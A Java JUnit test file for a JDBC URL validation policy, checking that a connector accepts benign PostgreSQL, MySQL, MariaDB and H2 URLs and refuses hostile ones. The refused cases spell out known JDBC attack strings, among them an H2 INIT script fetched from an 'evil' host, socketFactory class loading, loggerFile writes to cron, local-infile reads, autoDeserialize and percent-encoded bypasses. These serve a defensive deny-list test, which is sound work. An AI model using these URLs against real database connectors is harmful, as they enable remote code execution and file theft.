package dev.daas.connector.jdbc;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlPolicyTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://127.0.0.1:5432/test",
        "jdbc:postgresql://db1:5432,db2:5433/test?targetServerType=primary&sslmode=require",
        "jdbc:postgresql://h/db?ApplicationName=daas&connectTimeout=5&user=reader",
        "jdbc:postgresql:test",
        "jdbc:mariadb://127.0.0.1:3306/test",
        "jdbc:mariadb://h/db?restrictedAuth=mysql_native_password&useSsl=true",
        "jdbc:mariadb:replication://a,b/db?user=reader",
        "jdbc:mysql://h:3306/db?sslMode=REQUIRED&serverTimezone=UTC",
        "jdbc:mysql://reader@h/db",
        "jdbc:mysql://(host=h,port=3306,user=reader)/db",
        "jdbc:h2:mem:x",
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1",
        "jdbc:h2:tcp://127.0.0.1:9092/mem:y;MODE=PostgreSQL;database_to_lower=TRUE;",
        "jdbc:h2:file:/data/legacy;IFEXISTS=TRUE;ACCESS_MODE_DATA=r;NON_KEYWORDS=VALUE,YEAR"
      })
  void acceptsHarmlessUrls(String url) {
    assertThat(JdbcUrlPolicy.problems(url)).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '"',
      value = {
        // credentials anywhere in the URL
        "jdbc:postgresql://h/db?password=secret | 'password'",
        "jdbc:postgresql://h/db?user=a&PassWord=secret | 'PassWord'",
        "jdbc:postgresql://h/db?sslpassword=secret | 'sslpassword'",
        "jdbc:mysql://(host=h,user=u,password=secret)/db | 'password'",
        "jdbc:mysql://address=(host=h)(port=3306)(password=secret)/db | 'password'",
        "jdbc:mysql://u:secret@h:3306/db | user:password@host",
        "jdbc:mariadb://a:3306,u:secret@b:3306/db | user:password@host",
        "jdbc:mariadb://h/db?trustStorePassword=x | 'trustStorePassword'",
        "jdbc:mysql://h/db?keyStorePassword=x | 'keyStorePassword'",
        "jdbc:h2:mem:x;PASSWORD=secret | 'PASSWORD'",
        // H2: only the allow-listed settings
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql' | 'INIT'",
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;init=CREATE ALIAS X | 'init'",
        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3 | 'TRACE_LEVEL_FILE'",
        "jdbc:h2:mem:x;MODE=MySQL\\;INIT=x | 'INIT'",
        "jdbc:h2:mem:x; IGNORE_UNKNOWN_SETTINGS=TRUE | 'IGNORE_UNKNOWN_SETTINGS'",
        // PostgreSQL: class loading, files, logging
        "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.X | 'socketFactory'",
        "jdbc:postgresql://h/db?socketFactoryArg=http://evil/x.xml | 'socketFactoryArg'",
        "jdbc:postgresql://h/db?sslfactory=x.Y&sslfactoryarg=z | 'sslfactory'",
        "jdbc:postgresql://h/db?sslhostnameverifier=x.Y | 'sslhostnameverifier'",
        "jdbc:postgresql://h/db?sslpasswordcallback=x.Y | 'sslpasswordcallback'",
        "jdbc:postgresql://h/db?authenticationPluginClassName=x.Y | 'authenticationPluginClassName'",
        "jdbc:postgresql://h/db?loggerLevel=TRACE&loggerFile=/etc/cron.d/x | 'loggerFile'",
        "jdbc:postgresql://h/db?loggerLevel=DEBUG | 'loggerLevel'",
        "jdbc:postgresql://h/db?%73ocketFactory=x.Y | 'socketFactory'",
        // MySQL and MariaDB: local files, deserialisation, interceptors, plugins
        "jdbc:mysql://h/db?allowLoadLocalInfile=true | 'allowLoadLocalInfile'",
        "jdbc:mysql://(host=h,allowLoadLocalInfile=true)/db | 'allowLoadLocalInfile'",
        "jdbc:mysql://h/db?%61llowLoadLocalInfile=true | 'allowLoadLocalInfile'",
        "jdbc:mariadb://h/db?allowLocalInfile=true | 'allowLocalInfile'",
        "jdbc:mysql://h/db?allowLoadLocalInfileInPath=/ | 'allowLoadLocalInfileInPath'",
        "jdbc:mysql://h/db?allowUrlInLocalInfile=true | 'allowUrlInLocalInfile'",
        "jdbc:mysql://h/db?autoDeserialize=true | 'autoDeserialize'",
        "jdbc:mysql://h/db?queryInterceptors=x.Y | 'queryInterceptors'",
        "jdbc:mysql://h/db?statementInterceptors=x.Y | 'statementInterceptors'",
        "jdbc:mysql://h/db?exceptionInterceptors=x.Y | 'exceptionInterceptors'",
        "jdbc:mysql://h/db?connectionLifecycleInterceptors=x.Y | 'connectionLifecycleInterceptors'",
        "jdbc:mariadb://h/db?socketFactory=x.Y | 'socketFactory'",
        "jdbc:mysql://h/db?propertiesTransform=x.Y | 'propertiesTransform'",
        "jdbc:mariadb://h/db?credentialType=ENV | 'credentialType'",
        "jdbc:mariadb://h/db?serverSslCert=file:///etc/passwd | 'serverSslCert'",
        "jdbc:mysql://h/db?authenticationPlugins=x.Y | 'authenticationPlugins'",
        "jdbc:mysql://h/db?defaultAuthenticationPlugin=x.Y | 'defaultAuthenticationPlugin'",
        "jdbc:mariadb:loadbalance://a,b/db?ALLOWLOCALINFILE=true | 'ALLOWLOCALINFILE'"
      })
  void refusesHostileUrlsNamingTheOption(String url, String named) {
    List<String> problems = JdbcUrlPolicy.problems(url);
    assertThat(problems).isNotEmpty().anyMatch(p -> p.contains(named));
    assertThat(problems).allSatisfy(p -> assertThat(p).doesNotContain("secret").endsWith("."));
  }

  @Test
  void namesEveryRefusedOptionOnceInOneSentenceEach() {
    List<String> problems =
        JdbcUrlPolicy.problems(
            "jdbc:mysql://h/db?autoDeserialize=true&password=secret&autoDeserialize=true");
    assertThat(problems)
        .containsExactly(
            "Option 'autoDeserialize' is not allowed because it deserializes Java objects sent by"
                + " the database.",
            "Option 'password' carries a password; give the password in the source's password"
                + " field instead.");
  }

  @Test
  void listsTheAcceptedH2SettingsWhenRefusingOne() {
    assertThat(JdbcUrlPolicy.problems("jdbc:h2:mem:x;INIT=x"))
        .singleElement()
        .asString()
        .contains("H2 setting 'INIT'", "DB_CLOSE_DELAY", "MODE");
  }
}
